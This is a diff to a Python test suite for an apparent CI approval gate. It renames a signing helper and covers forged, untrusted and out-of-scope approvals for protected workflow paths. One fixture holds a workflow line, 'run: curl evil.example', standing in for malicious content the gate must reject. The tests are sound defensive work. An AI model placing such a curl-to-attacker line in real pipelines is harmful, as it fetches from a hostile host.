@@ -12,7 +12,7 @@ import pytest
 from msgspec.structs import replace
 
 from gatewright.contracts import GateReport
-from gatewright.evidence.approvals import APPROVAL, TO_APPROVE, ApprovedChange, ContentApproval, signed
+from gatewright.evidence.approvals import APPROVAL, TO_APPROVE, ApprovedChange, ContentApproval, sign_approval
 from gatewright.evidence.signing import keys
 from gatewright.evidence.signing.envelopes import Signer
 from tests.attacks.real_gate import RealGate, artifact, codes, evidence, open_gate
@@ -74,7 +74,7 @@ async def test_what_was_approved_is_let_in_and_named_in_the_evidence(
     async with open_gate(make_repository(files=FILES), tmp_path, allowed_paths=(".github", ".gitlab-ci.yml", "src")) as gate:
         gate.gates = changed(gate.gates, approvers=lambda: (KEY.public,))
         approval = await asked(gate, files)
-        report = await judged(gate, files, signed(approval, Signer(KEY)))
+        report = await judged(gate, files, sign_approval(approval, Signer(KEY)))
     assert codes(report) == []
     (rule,) = [each for each in report.rules if each.rule == "protected_paths.ci.approval"]
     assert "A. Person" in rule.detail
@@ -83,23 +83,23 @@ async def test_what_was_approved_is_let_in_and_named_in_the_evidence(
 
 
 async def test_an_approval_by_a_key_that_may_not_counts_for_nothing(gate: RealGate) -> None:
-    report = await judged(gate, approval=signed(await asked(gate), Signer(OTHER)))
+    report = await judged(gate, approval=sign_approval(await asked(gate), Signer(OTHER)))
     assert codes(report) == ["path_protected"]
     assert "untrusted_key" in report.violations[0].detail
 
 
 async def test_an_approval_that_was_changed_counts_for_nothing(gate: RealGate) -> None:
     approval = await asked(gate)
-    envelope = msgspec.json.decode(signed(approval, Signer(KEY)))
+    envelope = msgspec.json.decode(sign_approval(approval, Signer(KEY)))
     for forged in (replace(approval, expires_at="2199-01-01T00:00:00.000Z"), replace(approval, approved_by="B. Person")):
-        envelope["payload"] = msgspec.json.decode(signed(forged, Signer(OTHER)))["payload"]
+        envelope["payload"] = msgspec.json.decode(sign_approval(forged, Signer(OTHER)))["payload"]
         report = await judged(gate, approval=msgspec.json.encode(envelope, order="sorted"))
         assert codes(report) == ["path_protected"]
         assert "bad_signature" in report.violations[0].detail
 
 
 async def test_an_approval_of_other_content_does_not_cover_this_one(gate: RealGate) -> None:
-    approval = signed(await asked(gate), Signer(KEY))
+    approval = sign_approval(await asked(gate), Signer(KEY))
     for files in ({WORKFLOW: b"on: push\nrun: curl evil.example\n"}, {".github/workflows/other.yml": NEW}, {WORKFLOW: None}):
         assert codes(await judged(gate, dict(files), approval)) == ["path_protected"]
 
@@ -109,7 +109,7 @@ async def test_an_approval_from_another_baseline_does_not_undo_what_came_between
 ) -> None:
     repository = make_repository(files=FILES)
     async with open_gate(repository, tmp_path / "one", allowed_paths=(".github",)) as gate:
-        approval = signed(await asked(gate), Signer(KEY))
+        approval = sign_approval(await asked(gate), Signer(KEY))
     repository.commit({WORKFLOW: b"on: push\npermissions: {}\n"})
     async with open_gate(repository, tmp_path / "two", allowed_paths=(".github",)) as gate:
         gate.gates = changed(gate.gates, approvers=lambda: (KEY.public,))
@@ -127,11 +127,13 @@ async def test_an_approval_from_another_baseline_does_not_undo_what_came_between
 )
 async def test_an_approval_for_elsewhere_or_of_the_past_counts_for_nothing(fields: dict[str, str], gate: RealGate) -> None:
     approval = replace(await asked(gate), **fields)
-    assert codes(await judged(gate, approval=signed(approval, Signer(KEY)))) == ["path_protected"]
+    assert codes(await judged(gate, approval=sign_approval(approval, Signer(KEY)))) == ["path_protected"]
 
 
 async def test_another_statement_that_the_same_key_signed_is_no_approval(gate: RealGate) -> None:
-    approval = msgspec.json.decode(base64.b64decode(msgspec.json.decode(signed(await asked(gate), Signer(KEY)))["payload"]))
+    approval = msgspec.json.decode(
+        base64.b64decode(msgspec.json.decode(sign_approval(await asked(gate), Signer(KEY)))["payload"])
+    )
     approval["predicateType"] = "https://slsa.dev/verification_summary/v1"
     report = await judged(gate, approval=Signer(KEY).envelope(msgspec.json.encode(approval)))
     assert codes(report) == ["path_protected"]
@@ -148,5 +150,7 @@ async def test_an_approval_opens_the_pipeline_and_nothing_else(gate: RealGate) -
     approval = await asked(gate)
     blob = gate.repository.git("hash-object", "--stdin", stdin=b"X=1\n").decode().strip()
     wider = (*approval.changes, ApprovedChange("src/.env", "000000 " + "0" * 40, f"100644 {blob}"))
-    report = await judged(gate, {WORKFLOW: NEW, "src/.env": b"X=1\n"}, signed(replace(approval, changes=wider), Signer(KEY)))
+    report = await judged(
+        gate, {WORKFLOW: NEW, "src/.env": b"X=1\n"}, sign_approval(replace(approval, changes=wider), Signer(KEY))
+    )
     assert [violation.rule for violation in report.violations] == ["protected_paths.sacred"]
